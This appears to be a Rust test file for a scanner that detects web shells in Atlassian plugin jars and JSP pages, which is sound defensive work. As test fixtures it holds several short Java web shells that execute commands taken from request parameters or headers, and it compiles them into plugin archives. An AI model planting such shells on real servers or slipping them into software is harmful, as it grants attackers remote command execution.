//! Web shells are compiled here from source with `javac`, in several tastes; what must stay quiet are Debian's Java
//! libraries, packed as plugins that answer requests.

use std::{
    fs,
    io::Write as _,
    path::{Path, PathBuf},
    process::Command,
};

use bbsec_core::{Collected, Finding, Silent};
use zip::{ZipArchive, ZipWriter, write::SimpleFileOptions};

use super::*;

const API: &str = "package javax.servlet.http;\n\
public interface HttpServletRequest { String getParameter(String n); String getHeader(String n); java.io.BufferedReader getReader(); Object getAttribute(String n); }\n";
const RESPONSE: &str = "package javax.servlet.http;\npublic interface HttpServletResponse { java.io.PrintWriter getWriter(); }\n";
const SERVLET: &str = "package javax.servlet.http;\npublic class HttpServlet { protected void doGet(HttpServletRequest q, HttpServletResponse s) throws Exception {} }\n";
const CONTEXT: &str = "package org.apache.catalina.core;\npublic class StandardContext { public void addFilterMapBefore(Object o) {} }\n";

/// A servlet's body, and whether a person must be woken.
const SHELLS: [(&str, &str, u64); 7] = [
    ("exec", "s.getWriter().print(Runtime.getRuntime().exec(q.getParameter(\"c\")));", 75),
    ("builder", "new ProcessBuilder(\"/bin/sh\", \"-c\", q.getHeader(\"X-C\")).start();", 75),
    (
        "reflection",
        "Class<?> c = Class.forName(\"java.lang.Runtime\"); c.getMethod(\"exec\", String.class).invoke(c.getMethod(\"getRuntime\").invoke(null), q.getParameter(\"c\"));",
        75,
    ),
    (
        "loader",
        "byte[] b = java.util.Base64.getDecoder().decode(q.getReader().readLine()); javax.crypto.Cipher k = javax.crypto.Cipher.getInstance(\"AES\"); new ClassLoader() { Class<?> g(byte[] x) { return defineClass(x, 0, x.length); } }.g(k.doFinal(b)).newInstance().equals(q);",
        75,
    ),
    (
        "script",
        "new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(q.getParameter(\"c\"));",
        55,
    ),
    (
        "memory",
        "((org.apache.catalina.core.StandardContext) q.getAttribute(\"c\")).addFilterMapBefore(Runtime.getRuntime().exec(q.getParameter(\"c\")));",
        75,
    ),
    ("split", "Helper.run(\"ls\");", 35),
];
const HELPER: &str = "package a;\nclass Helper { static void run(String c) throws Exception { Runtime.getRuntime().exec(c); } }\n";

fn descriptor(key: &str, vendor: &str) -> String {
    format!(
        "<atlassian-plugin key=\"{key}\" name=\"N\" plugins-version=\"2\"><plugin-info><version>1</version>{vendor}</plugin-info><servlet key=\"s\" class=\"a.Shell\"><url-pattern>/x</url-pattern></servlet></atlassian-plugin>"
    )
}

fn jar(path: &Path, entries: &[(&str, &[u8])]) {
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    let mut zip = ZipWriter::new(fs::File::create(path).unwrap());
    for (name, bytes) in entries {
        zip.start_file(*name, SimpleFileOptions::default()).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap();
}

/// Compiles a servlet; its class files with their names in an archive.
fn compile(body: &str) -> Vec<(String, Vec<u8>)> {
    let dir = tempfile::tempdir().unwrap();
    let shell = format!(
        "package a;\nimport javax.servlet.http.*;\npublic class Shell extends HttpServlet {{ protected void doGet(HttpServletRequest q, HttpServletResponse s) throws Exception {{ {body} }} }}\n"
    );
    let sources = [
        ("HttpServletRequest.java", API),
        ("HttpServletResponse.java", RESPONSE),
        ("HttpServlet.java", SERVLET),
        ("StandardContext.java", CONTEXT),
        ("Helper.java", HELPER),
        ("Shell.java", &shell),
    ];
    let mut command = Command::new("javac");
    command.args(["-nowarn", "-d", "out", "--release", "8"]).current_dir(dir.path());
    for (name, text) in sources {
        fs::write(dir.path().join(name), text).unwrap();
        command.arg(name);
    }
    let output = command.output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let classes = fs::read_dir(dir.path().join("out/a")).unwrap().map(|entry| entry.unwrap().path());
    classes
        .filter(|path| !path.ends_with("Helper.class") || body.contains("Helper"))
        .map(|path| (format!("a/{}", path.file_name().unwrap().to_str().unwrap()), fs::read(&path).unwrap()))
        .collect()
}

fn home() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    crate::home::tests::write(dir.path(), &[("shared/bitbucket.properties", "")]);
    dir
}

fn run(dir: &Path, scope: &Scope, baseline: Option<&Path>) -> (PluginSummary, Collected) {
    let mut sink = Collected::default();
    let summary = review(&Home::open(dir).unwrap(), scope, baseline, &mut sink, &Silent).unwrap();
    (summary, sink)
}

fn score(finding: &Finding) -> u64 {
    finding.data["score"].as_u64().unwrap()
}

fn has_javac() -> bool {
    Command::new("javac").arg("-version").output().is_ok_and(|output| output.status.success())
}

#[test]
fn compiled_web_shells_score_high_and_say_why() {
    if !has_javac() {
        println!("not run: no javac");
        return;
    }
    let dir = home();
    for (name, body, _) in SHELLS {
        let classes = compile(body);
        let xml = descriptor(&format!("com.example.{name}"), "");
        let mut entries: Vec<(&str, &[u8])> = vec![("atlassian-plugin.xml", xml.as_bytes())];
        entries.extend(classes.iter().map(|(name, bytes)| (name.as_str(), bytes.as_slice())));
        jar(&dir.path().join(format!("shared/plugins/installed-plugins/{name}.jar")), &entries);
    }
    let (summary, found) = run(dir.path(), &Scope::default(), None);
    assert_eq!((summary.installed, summary.suspicious), (7, 7));
    for (name, _, least) in SHELLS {
        let file = format!("shared/plugins/installed-plugins/{name}.jar");
        let finding = found.findings.iter().find(|finding| finding.subject.id == file).unwrap();
        assert!(score(finding) >= least, "{name}: {} {:?}", score(finding), finding.why);
        assert_eq!(finding.subject.name.as_deref(), Some(format!("com.example.{name}").as_str()));
        assert_eq!(&*finding.evidence[0].file, file);
        assert!(finding.fix.as_deref().unwrap().contains("/plugins/servlet/x"));
    }
}

#[test]
fn packaged_java_libraries_that_answer_requests_do_not() {
    let mut libraries: Vec<PathBuf> = ["/usr/share/java", "/usr/share/maven-repo"]
        .iter()
        .flat_map(|folder| fs::read_dir(folder).into_iter().flatten().flatten())
        .map(|entry| entry.path())
        .filter(|path| path.extension().is_some_and(|e| e == "jar") && !path.is_symlink())
        .collect();
    libraries.sort();
    if libraries.len() < 10 {
        println!("not run: Debian's Java libraries are not installed");
        return;
    }
    let dir = home();
    let xml = descriptor("org.example.library", "<vendor name=\"V\" url=\"https://v.example\"/>");
    for library in &libraries {
        let target = dir.path().join("shared/plugins/installed-plugins").join(library.file_name().unwrap());
        fs::create_dir_all(target.parent().unwrap()).unwrap();
        let mut from = ZipArchive::new(fs::File::open(library).unwrap()).unwrap();
        let mut zip = ZipWriter::new(fs::File::create(target).unwrap());
        zip.start_file("atlassian-plugin.xml", SimpleFileOptions::default()).unwrap();
        zip.write_all(xml.as_bytes()).unwrap();
        for index in 0..from.len() {
            zip.raw_copy_file(from.by_index_raw(index).unwrap()).unwrap();
        }
        zip.finish().unwrap();
    }
    let (summary, found) = run(dir.path(), &Scope::default(), None);
    assert_eq!(summary.installed, libraries.len() as u64);
    let loud: Vec<_> = found
        .findings
        .iter()
        .filter(|finding| score(finding) >= 35)
        // Tomcat's own CGI servlet starts a program for a request: what a web shell does, and rightly said of it.
        .filter(|finding| {
            !finding.why.iter().any(|why| why.contains("org.apache.catalina.servlets.CGIServlet"))
        })
        .map(|finding| (&finding.subject.id, &finding.why))
        .collect();
    assert!(loud.is_empty(), "{loud:#?}");
}

#[test]
fn the_copy_that_an_upload_left_survives_removal() {
    let dir = tempfile::tempdir().unwrap();
    crate::home::tests::write(
        dir.path(),
        &[
            ("var/atlassian/application-data/confluence/confluence.cfg.xml", "<x/>"),
            ("opt/atlassian/confluence/confluence/WEB-INF/web.xml", "<x/>"),
            ("opt/atlassian/confluence/confluence/pages/ok.jsp", "<%= request.getContextPath() %>"),
            (
                "opt/atlassian/confluence/confluence/pages/x.jsp",
                "<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>",
            ),
        ],
    );
    let xml = descriptor("web.shell.Plugin", "");
    let leftover = "opt/atlassian/confluence/temp/plugin_6443315541471340356_shellplug.jar";
    jar(&dir.path().join(leftover), &[("atlassian-plugin.xml", xml.as_bytes())]);
    let (summary, found) = run(dir.path(), &Scope::default(), None);
    assert_eq!((summary.leftovers, summary.pages, summary.suspicious), (1, 2, 2));
    let mut subjects: Vec<_> = found.findings.iter().map(|f| (f.subject.id.as_str(), score(f))).collect();
    subjects.sort_unstable();
    assert_eq!(subjects, [("opt/atlassian/confluence/confluence/pages/x.jsp", 70), (leftover, 100)]);
}

#[test]
fn a_clean_installation_tells_what_was_added_and_what_was_changed() {
    let clean = tempfile::tempdir().unwrap();
    let lib = "opt/atlassian/bitbucket/8.9.1/app/WEB-INF/lib";
    jar(&clean.path().join("app/WEB-INF/lib/a.jar"), &[("a.txt", b"a")]);
    jar(&clean.path().join("app/WEB-INF/lib/b.jar"), &[("b.txt", b"b")]);
    let dir = tempfile::tempdir().unwrap();
    let base = "var/atlassian/application-data/bitbucket/shared/bitbucket.properties";
    crate::home::tests::write(dir.path(), &[(base, "")]);
    jar(&dir.path().join(lib).join("a.jar"), &[("a.txt", b"a")]);
    jar(&dir.path().join(lib).join("b.jar"), &[("b.txt", b"changed")]);
    jar(&dir.path().join(lib).join("new.jar"), &[("n.txt", b"n")]);

    let list = clean.path().join("list");
    let digests = ["a", "b"].map(|name| {
        let mut file = fs::File::open(clean.path().join(format!("app/WEB-INF/lib/{name}.jar"))).unwrap();
        format!("{}  app/WEB-INF/lib/{name}.jar\n", baseline::sha256(&mut file).unwrap())
    });
    fs::write(&list, digests.concat()).unwrap();
    let packed = clean.path().join("vendor.tar.gz");
    let gzip = flate2::write::GzEncoder::new(fs::File::create(&packed).unwrap(), flate2::Compression::fast());
    let mut tar = tar::Builder::new(gzip);
    tar.append_dir_all("bitbucket-8.9.1/app", clean.path().join("app")).unwrap();
    tar.into_inner().unwrap().finish().unwrap();

    for baseline in [clean.path(), &list, &packed] {
        let (summary, found) = run(dir.path(), &Scope::default(), Some(baseline));
        assert_eq!((summary.baseline, summary.unknown), (2, 2), "{}", baseline.display());
        let mut shown: Vec<_> =
            found.findings.iter().map(|f| (f.subject.id.rsplit('/').next().unwrap(), score(f))).collect();
        shown.sort_unstable();
        assert_eq!(shown, [("b.jar", 50), ("new.jar", 40)]);
    }
    let home = Home::open(dir.path()).unwrap();
    let empty = tempfile::tempdir().unwrap();
    let error =
        review(&home, &Scope::default(), Some(empty.path()), &mut Collected::default(), &Silent).unwrap_err();
    assert!(matches!(error, PluginError::EmptyBaseline { .. }));
}

#[test]
fn what_is_no_archive_is_a_gap_and_the_window_counts() {
    let dir = home();
    let plugins = dir.path().join("shared/plugins/installed-plugins");
    fs::create_dir_all(&plugins).unwrap();
    fs::write(plugins.join("broken.jar"), b"PK\x03\x04 not a zip").unwrap();
    jar(
        &plugins.join("ok.jar"),
        &[("atlassian-plugin.xml", b"<atlassian-plugin key='k'/>"), ("A.class", b"no")],
    );
    let now = Scope { from: Some("2020-01-01".parse().unwrap()), ..Scope::default() };
    let (_, found) = run(dir.path(), &now, None);
    let gaps: Vec<_> = found.gaps.iter().map(|gap| gap.subject.rsplit('/').next().unwrap()).collect();
    assert_eq!(gaps, ["broken.jar", "ok.jar"]);
    assert!(found.findings.iter().all(|finding| finding.why.iter().any(|why| why.contains("in the window"))));
}

#[test]
fn the_state_in_the_database_names_plugins_that_are_gone() {
    let dir = home();
    jar(
        &dir.path().join("shared/plugins/installed-plugins/a.jar"),
        &[("atlassian-plugin.xml", b"<atlassian-plugin key='a'/>")],
    );
    let row = |name: &str| PluginState {
        name: name.into(),
        enabled: true,
        updated: Some("2026-11-14T03:00Z".parse().unwrap()),
        at: bbsec_core::Place::file("dump.sql"),
    };
    let state = [row("a"), row("gone"), row("gone:module")];
    let scope = Scope { from: Some("2026-11-14".parse().unwrap()), ..Scope::default() };
    let mut sink = Collected::default();
    let beside = Beside { baseline: None, state: &state };
    review_with(&Home::open(dir.path()).unwrap(), &scope, beside, &mut sink, &Silent).unwrap();
    let removed: Vec<_> =
        sink.findings.iter().filter(|f| f.rule == "plugin.removed").map(|f| &f.subject.id).collect();
    assert_eq!(removed, ["gone"]);
}
